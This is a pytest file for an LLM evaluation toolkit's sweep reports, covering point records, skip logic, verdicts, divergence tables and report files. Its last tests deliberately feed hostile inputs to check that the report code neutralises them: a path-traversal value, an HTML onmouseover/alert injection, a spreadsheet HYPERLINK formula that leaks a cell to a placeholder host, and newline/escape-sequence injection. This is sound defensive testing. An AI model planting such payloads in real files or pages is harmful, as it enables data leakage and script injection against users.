"""Sweep points, the skip of completed points and the sweep report (evalkit/sweep/, its command sweep/cli.py), no vLLM.

The point runs are real run folders made by evaluate() through lm-eval with the deterministic fake engine, which
answers arithmetic right unless told to reply a fixed text, so the verdicts are known; a sweep whose points fail
before any engine starts goes through Hydra, run_point and the callback for real.
Run: pytest tests/test_sweep_report.py
"""

import json
import subprocess
import sys
from dataclasses import asdict, replace
from datetime import datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from evalkit.__main__ import run_point
from evalkit.config import EvalConfig
from evalkit.sweep.cli import main as report_main
from evalkit.run.evaluate import evaluate
from evalkit.sweep import points as sweep_points
from evalkit.sweep.points import PointRecord, completed_run, read_points, sweep_line, sweep_total, write_point
from evalkit.sweep.report import COLUMNS, tokens_per_second, write_report
from tests.fake_engine import FakeEngine


OVERRIDES = {0: ["limit=12", "max_model_len=1024"], 1: ["limit=12", "max_model_len=2048"],
             2: ["limit=12", "max_model_len=100000"], 3: ["limit=12", "max_model_len=1024"],
             4: ["limit=8", "max_model_len=1024"]}


ANYWHERE = Path("/")  # runs from two temporary folders: read wherever they lie (report.runs_root)


def record(num, status, run_dir=None, error=None, wall=None, started="2026-01-01T10:00:00+00:00"):
    return PointRecord(num=num, overrides=OVERRIDES.get(num, []),
                       status=status, run_dir=str(run_dir) if run_dir else None, error=error, wall_seconds=wall,
                       devices=None, host="test", started=started)


@pytest.fixture(scope="module")
def sweep(tmp_path_factory):
    """A sweep folder of five points: 0 ok (the reference), 1 ok with a broken engine (arithmetic worse),
    2 failed, 3 skipped (point 0's run), 4 ok on fewer documents (not comparable)."""
    tmp = tmp_path_factory.mktemp("sweep")
    model = tmp / "model"
    model.mkdir()
    (model / "config.json").write_text(json.dumps({"max_position_embeddings": 4096}))
    out = tmp / "result"
    # resume=false: the fake engines share one request store fingerprint, and point 1's must not reuse point 0's answers
    configs = {0: EvalConfig(model_name="fake", vllm_path=str(model), output_dir=str(out), limit=12, max_model_len=1024,
                             resume=False)}
    configs[1] = replace(configs[0], max_model_len=2048)
    configs[4] = replace(configs[0], limit=8)
    engines = {0: FakeEngine(), 1: FakeEngine(reply=" 13"), 4: FakeEngine()}
    runs = {n: evaluate(cfg, engine_factory=lambda c, d, n=n: engines[n], check_devices=False)
            for n, cfg in configs.items()}
    folder = out / ".sweeps" / "20260101-100000"
    for point in (record(0, "ok", runs[0], wall=30.0), record(1, "ok", runs[1], wall=34.0),
                  record(2, "failed", error="max_model_len=100000 exceeds what fake supports (4096)", wall=0.4),
                  record(3, "skipped", runs[0], wall=0.1), record(4, "ok", runs[4], wall=20.0)):
        write_point(folder / str(point.num), point)
    (folder / "multirun.yaml").write_text("hydra:\n  overrides:\n    task: [max_model_len=1024,2048]\n")
    return {"dir": folder, "runs": runs, "configs": configs, "out": out}


@pytest.fixture(scope="module")
def report(sweep):
    written = write_report(sweep["dir"])
    return {"written": written, "table": pd.read_csv(sweep["dir"] / "report.csv")}


def test_point_records_round_trip_sorted_by_num(sweep):
    points = read_points(sweep["dir"])
    assert [p.num for p in points] == [0, 1, 2, 3, 4]
    assert points[2].status == "failed" and points[2].error.startswith("max_model_len=100000")
    assert points[3].run_dir == str(sweep["runs"][0])
    assert not list(sweep["dir"].rglob(".tmp-*"))  # written through a temporary name, renamed


def test_the_table_has_a_row_per_point_task_and_metric(report, sweep):
    table = report["table"]
    assert list(table.columns) == COLUMNS
    ok = table[table.status.isin(["ok", "skipped"])]
    assert set(ok.point) == {0, 1, 3, 4} and set(ok.task) == {"evalkit_arith", "evalkit_facts"}
    assert len(ok) == len(ok.drop_duplicates(["point", "task", "metric", "filter"]))
    arith = ok[(ok.task == "evalkit_arith") & (ok.metric == "exact_match")].set_index("point")
    assert arith.loc[0, "value"] == 1.0 and arith.loc[1, "value"] == pytest.approx(1 / 12)
    assert arith.loc[0, "stderr"] == 0 and arith.loc[1, "stderr"] > 0
    results = json.loads((sweep["runs"][1] / "results.json").read_text())
    assert arith.loc[1, "tokens_per_s"] == pytest.approx(tokens_per_second(results), rel=1e-3)
    assert arith.loc[1, "wall_seconds"] == 34.0 and arith.loc[4, "overrides"] == "limit=8 max_model_len=1024"


def test_verdicts_against_the_first_completed_point(report):
    table = report["table"]
    arith = table[(table.task == "evalkit_arith") & (table.metric == "exact_match")].set_index("point")
    assert arith.loc[0, "verdict"] == "reference"
    assert arith.loc[1, "verdict"] == "worse" and arith.loc[1, "diff"] == pytest.approx(-11 / 12)
    assert arith.loc[3, "verdict"] == "inconclusive" and arith.loc[3, "diff"] == 0  # point 0's own run
    assert arith.loc[4, "verdict"] == "not comparable"


def test_a_failed_point_has_one_row_with_its_error(report):
    failed = report["table"][report["table"].point == 2]
    assert len(failed) == 1 and failed.iloc[0].status == "failed" and pd.isna(failed.iloc[0].value)
    assert failed.iloc[0].error == "max_model_len=100000 exceeds what fake supports (4096)"


def test_report_files_are_written_into_the_sweep_folder(report, sweep):
    folder = sweep["dir"]
    names = {p.name for p in report["written"]}
    assert {"report.csv", "report.md", "report.html", "scores.png", "throughput.png"} <= names
    assert {"compare-1-vs-0.md", "compare-1-vs-0.html", "compare-3-vs-0.md"} <= names
    assert "compare-4-vs-0.md" not in names  # not comparable: no report
    for png in ("scores.png", "throughput.png"):
        assert (folder / png).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    md = (folder / "report.md").read_text()
    assert "| verdict" in md and "worse" in md and "- reference: point 0" in md and "nan" not in md
    assert "point 2 (`limit=12 max_model_len=100000`): failed, error: max_model_len=100000" in md
    assert "point 4 (`limit=8 max_model_len=1024`): ok, run " in md and "; not comparable: evalkit_arith: different " \
        "documents (12 vs 8 samples)" in md
    page = (folder / "report.html").read_text()
    assert page.count("data:image/png;base64,") == 2 and "<table" in page and 'href="compare-1-vs-0.html"' in page
    assert "# evalkit compare" in (folder / "compare-1-vs-0.md").read_text()


def compare_divergence_rows(ref, cand, folder):
    """The divergence table's rows (task -> cells by column) of `python -m evalkit.compare REF CAND`'s report."""
    assert cli_main([str(ref), str(cand), "--output", str(folder)]) in (0, 1)
    (text,) = [f.read_text() for f in folder.glob("compare-*.md")]
    return markdown_rows(text.split("## Divergence (token level)")[1])


def markdown_rows(text):
    """The first Markdown table in text: first cell -> {column: cell}."""
    lines = [line for line in text.split("\n\n|", 1)[1].split("\n\n")[0].splitlines()]
    head = [c.strip() for c in ("|" + lines[0]).strip("|").split("|")]
    rows = [[c.strip() for c in line.strip("|").split("|")] for line in lines[2:]]
    return {(r[0], r[2]) if head[0] == "point" else r[0]: dict(zip(head, r)) for r in rows}


def test_the_sweep_shows_each_points_divergence_as_compare_gives_it(report, sweep, tmp_path):
    """report.csv's Mean KLD and Same top p per task, report.md's divergence table and the point's own comparison
    report all hold what `python -m evalkit.compare REF P` gives for the same pair (no noise run: no verdict)."""
    from evalkit.compare.divergence.report import estimate
    from evalkit.compare.divergence.stats import Estimate

    runs, folder = sweep["runs"], sweep["dir"]
    compared = compare_divergence_rows(runs[0], runs[1], tmp_path)
    arith = compared["evalkit_arith"]
    assert arith["Mean KLD ± SE [95 %]"].split()[0] not in ("0", "–")  # the broken engine's generations moved
    table = report["table"]
    for task in ("evalkit_arith", "evalkit_facts"):
        row = table[(table.point == 1) & (table.task == task)].iloc[0]
        kld = Estimate(row.mean_kld, row.mean_kld_se, row.mean_kld_low, row.mean_kld_high)
        assert estimate(kld) == compared[task]["Mean KLD ± SE [95 %]"]
        assert compared[task]["Same top p ± SE [95 %]"].startswith(f"{row.same_top_p * 100:.5g} ± ")
    ref_rows = table[table.point == 0]
    assert ref_rows.mean_kld.isna().all() and table[table.point == 4].same_top_p.isna().all()  # not comparable
    itself = table[table.point == 3]  # point 0's own run: nothing moved
    assert (itself.mean_kld == 0).all() and (itself.same_top_p == 1).all()
    md = (folder / "report.md").read_text()
    shown = markdown_rows(md.split("## Divergence from the reference (token level)")[1])
    for task in ("evalkit_arith", "evalkit_facts", "all tasks"):
        for column in ("positions", "Mean KLD ± SE [95 %]", "Same top p ± SE [95 %]"):
            assert shown[("1", task)][column] == compared[task][column]
    assert "no verdict" in md and "| mean_kld" not in md  # the main table leaves them to their own
    own = (folder / "compare-1-vs-0.md").read_text()
    assert markdown_rows(own.split("## Divergence (token level)")[1]) == compared
    assert "- no noise run: the figures only, no verdict claimed" in own
    page = (folder / "report.html").read_text().replace("\u00a0", " ")  # its figures break before the interval
    assert "<h2 id=divergence>" in page and compared["all tasks"]["Mean KLD ± SE [95 %]"] in page
    assert "<h2 id=divergence>" in (folder / "compare-1-vs-0.html").read_text()


def test_a_point_or_a_reference_without_a_record_is_blank_with_a_note(sweep, tmp_path):
    """A point run with divergence_top_k=0: blank, and one line why; as the reference, every point blank, one line."""
    unrecorded = replace(sweep["configs"][0], divergence_top_k=0)
    run = evaluate(unrecorded, engine_factory=lambda c, d: FakeEngine(), check_devices=False)
    folder = tmp_path / "sweep"
    for num, run_dir in ((0, sweep["runs"][0]), (1, sweep["runs"][1]), (2, run)):
        write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
    name = f"{run.parent.name}/{run.name}"
    for reference, blank, note in ((0, [2], f"- point 2: no divergence: run {name} (point 2) recorded no divergence; "
                                               "run it with divergence_top_k=20 to record one"),
                                   (2, [0, 1], f"- points 0, 1: no divergence: run {name} (point 2) recorded no "
                                               "divergence")):
        write_report(folder, reference=reference, runs_under=ANYWHERE)
        table = pd.read_csv(folder / "report.csv")
        assert table[table.point.isin(blank)][["mean_kld", "same_top_p"]].isna().all().all()
        md = (folder / "report.md").read_text()
        assert note in md and "nan" not in md
        rows = markdown_rows(md.split("## Divergence from the reference (token level)")[1])
        assert all(rows[(str(n), "none (see below)")]["Mean KLD ± SE [95 %]"] == "" for n in blank)
        own = (folder / f"compare-{blank[-1]}-vs-{reference}.md").read_text()
        assert f"Divergence: none: run {name} recorded no divergence" in own
    assert table[table.point == 1].mean_kld.isna().all()


def test_another_reference_point(sweep, tmp_path, capsys):
    assert report_main([str(sweep["dir"]), "--reference", "1"]) == 0
    table = pd.read_csv(sweep["dir"] / "report.csv")
    arith = table[(table.task == "evalkit_arith") & (table.metric == "exact_match")].set_index("point")
    assert arith.loc[1, "verdict"] == "reference" and arith.loc[0, "verdict"] == "better"
    assert "# evalkit sweep report" in capsys.readouterr().out
    write_report(sweep["dir"])  # back to the default for the other tests


@pytest.mark.parametrize("args, message", [
    (["{missing}"], "is not a folder; pass a sweep folder"),
    (["{empty}"], "not a sweep folder (no <job num>/point.json under it)"),
    (["{sweep}", "--reference", "9"], "no point 9 in this sweep; points: 0, 1, 2, 3, 4"),
    (["{sweep}", "--reference", "2"], "point 2 did not complete (status failed); choose a completed point: 0, 1, 3, 4"),
])
def test_bad_input_is_one_line_and_exit_2(sweep, tmp_path, capsys, args, message):
    paths = {"missing": tmp_path / "nope", "empty": tmp_path, "sweep": sweep["dir"]}
    assert report_main([a.format(**paths) for a in args]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("evalkit.report: error: ") and message in err[0]


def test_the_command_line_exits_2_on_bad_input(tmp_path):
    done = subprocess.run([sys.executable, "-m", "evalkit.report", str(tmp_path)], capture_output=True, text=True)
    assert done.returncode == 2 and done.stderr.startswith("evalkit.report: error: ") and not done.stdout
    assert len(done.stderr.strip().splitlines()) == 1


def as_the_fake_engine_ran(monkeypatch):
    """This machine describes itself as the fake engine did (no versions, no hardware): its runs are complete here."""
    monkeypatch.setattr(sweep_points, "machine_here", dict)
    monkeypatch.setattr(sweep_points, "described_here", lambda recorded, machine=None: recorded)


def test_completed_run_finds_the_run_with_this_very_config(sweep, monkeypatch):
    as_the_fake_engine_ran(monkeypatch)
    configs, out = sweep["configs"], sweep["out"]
    assert completed_run(str(out), "fake", asdict(configs[0])) == sweep["runs"][0]
    assert completed_run(str(out), "fake", asdict(configs[1])) == sweep["runs"][1]
    assert completed_run(str(out), "fake", asdict(replace(configs[0], seed=7))) is None
    assert completed_run(str(out), "other", asdict(configs[0])) is None


def test_a_point_with_a_completed_config_is_skipped_and_a_bad_one_fails(sweep, tmp_path, capsys, monkeypatch):
    as_the_fake_engine_ran(monkeypatch)
    run_point(sweep["configs"][1], num=5, overrides=["max_model_len=2048"], folder=tmp_path / "5")
    (skipped,) = read_points(tmp_path)
    assert skipped.status == "skipped" and skipped.run_dir == str(sweep["runs"][1]) and skipped.error is None
    assert f"evalkit: point 5 was done in {sweep['runs'][1]}; skipped" in capsys.readouterr().err
    bad = replace(sweep["configs"][0], max_model_len=100000)
    run_point(bad, num=6, overrides=["max_model_len=100000"], folder=tmp_path / "6")  # returns: the sweep goes on
    failed = read_points(tmp_path)[1]
    assert failed.status == "failed" and failed.run_dir is None and failed.wall_seconds is not None
    assert failed.error.startswith("max_model_len=100000 exceeds what fake supports (4096")
    assert "evalkit: error: point 6 failed: max_model_len=100000" in capsys.readouterr().err


def test_sweep_line():
    points = [record(0, "ok", "/r/0", wall=120.0), record(1, "failed", error="x", wall=60.0),
              record(2, "skipped", "/r/0", wall=0.1), record(3, "running"), record(4, "running")]
    assert sweep_line(points, 8, 250) == ("evalkit: sweep 3/8 points done (1 failed, 1 skipped), 2 running, 4m10s, "
                                          "ETA 4m")
    assert sweep_line(points[:1], 2, 59) == "evalkit: sweep 1/2 points done, 59s, ETA 2m"
    assert sweep_line(points[:3], 3, 3700) == "evalkit: sweep 3/3 points done (1 failed, 1 skipped), 1h01m"
    assert sweep_line([record(0, "skipped", "/r", wall=0.1)], 2, 1) == "evalkit: sweep 1/2 points done (1 skipped), 1s"
    assert "\n" not in sweep_line(points, 0, 0) and "sweep 3/5 points done" in sweep_line(points, 0, 0)
    start = datetime.fromisoformat(points[0].started)
    assert sweep_points.sweep_elapsed(points, now=start + timedelta(seconds=90)) == 90


def test_sweep_total_crosses_the_sweeps():
    assert sweep_total(["max_model_len=1024,2048", "tasks=[a,b]", "seed=range(0,3)", "limit=3"]) == 6
    assert sweep_total(["limit=3"]) == 1


def test_a_sweep_of_failing_points_goes_on_records_them_and_exits_1(tmp_path):
    """Through Hydra's basic launcher for real; the points pass their checks and fail at a closed port (a sweep none
    of whose points passes them is refused before its folder)."""
    refused = "the server at http://127.0.0.1:9 refused connections (ConnectError: All connection attempts failed)"
    cmd = [sys.executable, "-m", "evalkit", "-m", f"output_dir={tmp_path}", "tasks=[evalkit_facts]", "limit=2",
           "engine=served", "endpoint.url=http://127.0.0.1:9/v1", "endpoint.retries=0", "max_model_len=1000,2000"]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=300)
    assert done.returncode == 1, done.stderr[-3000:]
    (folder,) = (tmp_path / ".sweeps").iterdir()
    points = read_points(folder)
    assert [(p.num, p.status, p.overrides[-1]) for p in points] == [
        (0, "failed", "max_model_len=1000"), (1, "failed", "max_model_len=2000")]
    assert points[1].error == refused
    err = done.stderr
    assert f"evalkit: error: point 0 failed: {refused}" in err  # and point 1 still ran:
    assert "evalkit: sweep 1/2 points done (1 failed)" in err and "evalkit: sweep 2/2 points done (2 failed)" in err
    assert f"evalkit: sweep report in {folder}: report.csv, report.md, report.html" in err
    assert "Traceback" not in err and "Error executing job" not in err
    table = pd.read_csv(folder / "report.csv")
    assert list(table.status) == ["failed", "failed"] and list(table.overrides) == [
        "max_model_len=1000", "max_model_len=2000"]


def completed(out, run_id, cfg, description):
    """A finished run folder as evaluate() leaves it, as far as completed_run reads it."""
    from evalkit.store.fingerprint import fingerprint

    from evalkit.run.sources import task_sources

    sources = task_sources(names=cfg.tasks, tasks_dirs=cfg.tasks_dirs, task_data=cfg.task_data)
    section = {"config": asdict(cfg), "engine": {**description, "model_dir": cfg.vllm_path},
               "provenance": {"model_fingerprint": fingerprint(cfg.vllm_path, description), "task_sources": sources}}
    (out / "m" / run_id).mkdir(parents=True)
    (out / "m" / run_id / "results.json").write_text(json.dumps({"results": {}, "evalkit": section}))
    return out / "m" / run_id


def test_a_completed_run_is_skipped_only_with_the_answers_this_point_would_have(tmp_path, monkeypatch):
    """The config alone is not enough: other library versions, another model in the folder or another vLLM
    environment give other answers, so the point runs again (the request store's fingerprint decides)."""
    from evalkit.sweep.points import described_here, machine_here

    machine = machine_here()  # read once (a process that imports torch), the same for every look below
    monkeypatch.setattr(sweep_points, "machine_here", lambda: machine)
    model, out = tmp_path / "model", tmp_path / "result"
    model.mkdir()
    (model / "config.json").write_text(json.dumps({"max_position_embeddings": 4096}))
    cfg = EvalConfig(model_name="m", vllm_path=str(model), output_dir=str(out), limit=12, max_model_len=1024)
    monkeypatch.delenv("VLLM_ATTENTION_BACKEND", raising=False)
    engine = {"name": "vllm", "engine_args": {"model": str(model), "dtype": "auto", "max_model_len": 1024},
              "model_runner": "v1", "environment": {},
              "choices": [{"setting": "env.VLLM_CPU_OMP_THREADS_BIND", "value": "0-1", "why": "its cores"}]}
    here = described_here(engine)
    assert here["environment"]["VLLM_CPU_OMP_THREADS_BIND"] == "0-1"  # set by tuning as the engine started
    older = {**here, "versions": {**here["versions"], "vllm": "0.31.0"}}
    completed(out, "20260101-100000", cfg, older)
    completed(out, "20260101-110000", cfg, {**here, "hardware": {**here["hardware"], "cpu_model": "another"}})
    assert completed_run(str(out), "m", asdict(cfg)) is None  # an upgrade since, another machine: run again
    same = completed(out, "20260101-090000", cfg, here)
    assert completed_run(str(out), "m", asdict(cfg)) == same
    assert completed_run(str(out), "m", asdict(replace(cfg, seed=7))) is None
    monkeypatch.setenv("VLLM_ATTENTION_BACKEND", "TRITON_ATTN")  # picks other kernels
    assert completed_run(str(out), "m", asdict(cfg)) is None
    monkeypatch.delenv("VLLM_ATTENTION_BACKEND")
    (model / "config.json").write_text(json.dumps({"max_position_embeddings": 8192}))  # another model there now
    assert completed_run(str(out), "m", asdict(cfg)) is None


@pytest.mark.parametrize("collapse", [False, True])
def test_the_sweep_report_agrees_with_compare_over_all_points(tmp_path, capsys, collapse):
    """Ten points each losing 8 of 100 documents: alone, each would be `worse` (p 0.009 < 0.05); as one family of
    ten rows, none is (Holm: 0.09), which `python -m evalkit.compare REF P1 ... P10` says with exit 0. The report
    says the same of every point, and where one point collapses (40 of 100 lost) both fail that point alone."""
    from tests.test_compare_verdicts import hand_run

    folder = tmp_path / ".sweeps" / "20260101-100000"
    runs = [hand_run(tmp_path / "m" / "ref", {"t": (8, 0, 100)}, side="ref")]
    runs += [hand_run(tmp_path / "m" / f"p{n}", {"t": (40 if collapse and n == 3 else 8, 0, 100)}, side="cand")
             for n in range(1, 11)]
    for num, run in enumerate(runs):
        write_point(folder / str(num), replace(record(num, "ok", run), overrides=[f"seed={num}"]))
    assert report_main([str(folder)]) == 0
    table = pd.read_csv(folder / "report.csv").set_index("point")
    capsys.readouterr()
    code = cli_main([str(r) for r in runs])
    shown = {n: v for n, v in table.verdict.items() if n}
    from_compare = {n: v for n, v in zip(range(1, 11), compare_verdicts(capsys.readouterr().out))}
    assert shown == from_compare and code == int("worse" in shown.values())
    assert set(shown.values()) == ({"worse", "inconclusive"} if collapse else {"inconclusive"})
    assert not collapse or shown[3] == "worse"


@pytest.mark.parametrize("copies", [2, 9])
def test_points_that_change_nothing_do_not_dilute_one_that_does(tmp_path, capsys, copies):
    """One point losing 8 of 100 documents (p 0.009, `worse` alone) beside points that reproduce the reference on
    every document: `worse` in the report and in `python -m evalkit.compare` alike (which exits 1; the sweep
    report exits on failed points only); the copies' rows cannot be worse, so they do not count (on Holm over
    every point it was `inconclusive`, exit 0)."""
    from tests.test_compare_verdicts import hand_run

    folder = tmp_path / ".sweeps" / "20260101-100000"
    runs = [hand_run(tmp_path / "m" / "ref", {"t": (8, 0, 100)}, side="ref")]
    runs += [hand_run(tmp_path / "m" / f"p{n}", {"t": (8, 0, 100)}, side="cand" if n == 1 else "ref")
             for n in range(1, copies + 2)]
    for num, run in enumerate(runs):
        write_point(folder / str(num), replace(record(num, "ok", run), overrides=[f"seed={num}"]))
    assert report_main([str(folder)]) == 0
    table = pd.read_csv(folder / "report.csv").set_index("point")
    capsys.readouterr()
    assert cli_main([str(r) for r in runs]) == 1
    shown = {n: v for n, v in table.verdict.items() if n}
    assert shown == dict(zip(range(1, copies + 2), compare_verdicts(capsys.readouterr().out)))
    assert shown == {1: "worse", **{n: "inconclusive" for n in range(2, copies + 2)}}


def cli_main(argv):
    from evalkit.compare.cli import main

    return main(argv)


def compare_verdicts(out):
    """The verdict of the one row of each candidate's table, in the order python -m evalkit.compare prints them."""
    return [line.split("|")[-2].strip() for line in out.splitlines() if line.startswith("| t ")]


@pytest.mark.parametrize("field, value", [("num", "/../../../escaped/REF"), ("num", True), ("num", -1),
                                          ("status", 'failed"\'/onmouseover=alert(1)//'), ("overrides", [1]),
                                          ("run_dir", {"a": 1})])
def test_a_point_record_of_another_type_is_no_record_and_nothing_is_written_outside(sweep, tmp_path, capsys,
                                                                                     field, value):
    """A sweep folder may come from elsewhere: a point.json whose num would name a path out of the folder (or any
    field of another type) is refused in one line, exit 2, and the report writes nothing anywhere."""
    folder = tmp_path / "a" / "b" / "sweep"
    for num in (0, 1):
        write_point(folder / str(num), record(num, "ok", sweep["runs"][num]))
    crafted = json.loads((folder / "1" / "point.json").read_text()) | {field: value}
    (folder / "1" / "point.json").write_text(json.dumps(crafted))
    before = sorted(tmp_path.rglob("*"))
    assert report_main([str(folder)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("evalkit.report: error: ") and f"({field}=" in err[0], err
    assert "\x1b" not in err[0] and sorted(tmp_path.rglob("*")) == before


def test_report_csv_carries_no_spreadsheet_formula_from_a_run(sweep, tmp_path):
    """A received point's run names a task, a metric and a filter as spreadsheet formulas (a sweep folder and its
    runs may come from elsewhere): report.csv holds each as text, a leading ' before it, and no cell starts a
    formula; numbers stay numbers."""
    import csv
    import shutil

    run = tmp_path / "run"
    shutil.copytree(sweep["runs"][0], run)
    results = json.loads((run / "results.json").read_text())
    results["results"] = {"=HYPERLINK(\"http://x/?\"&A1)": {"alias": "t", "+acc,-none": 0.5, "@acc_stderr,-none": 0.1}}
    (run / "results.json").write_text(json.dumps(results))
    folder = tmp_path / "sweep"
    for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
        write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
    write_report(folder, reference=0, runs_under=ANYWHERE)
    with open(folder / "report.csv", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'=HYPERLINK(\"http://x/?\"&A1)" in cells and "'+acc" in cells and "'-none" in cells, cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).replace("e", "").isdigit())]


def test_a_name_that_reads_as_mathtext_is_drawn_as_written(sweep, tmp_path):
    """A received run's task name holds "$x^$" (matplotlib's mathtext, unparsable): the sweep report is written,
    its plot drawn with the name as text."""
    import shutil

    run = tmp_path / "run"
    shutil.copytree(sweep["runs"][0], run)
    results = json.loads((run / "results.json").read_text())
    results["results"] = {"$x^$ \\frac{": {"alias": "t", "acc,none": 0.5, "acc_stderr,none": 0.1}}
    (run / "results.json").write_text(json.dumps(results))
    folder = tmp_path / "sweep"
    for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
        write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
    written = {p.name for p in write_report(folder, reference=0, runs_under=ANYWHERE)}
    assert {"report.csv", "report.md", "report.html", "scores.png"} <= written
    assert "$x^$ \\frac{" in pd.read_csv(folder / "report.csv").task.tolist()


def test_a_newline_in_a_received_point_record_starts_no_line(sweep, tmp_path):
    """A received point.json whose error and override hold a newline and an escape sequence: report.md shows them
    escaped (\\x0a, \\x1b) inside their own line, never as a heading of their own."""
    folder = tmp_path / "sweep"
    write_point(folder / "0", replace(record(0, "ok", sweep["runs"][0]), overrides=["seed=0"]))
    write_point(folder / "1", replace(record(1, "failed", error="boom\n# Injected heading\x1b]0;t\x07"),
                                      overrides=["seed=1\n## Injected override"]))
    write_report(folder, reference=0, runs_under=ANYWHERE)
    md = (folder / "report.md").read_text()
    assert not [line for line in md.splitlines() if line.startswith(("# Injected", "## Injected"))], md
    assert "boom\\x0a# Injected heading\\x1b]0;t\\x07" in md and "\x1b" not in md
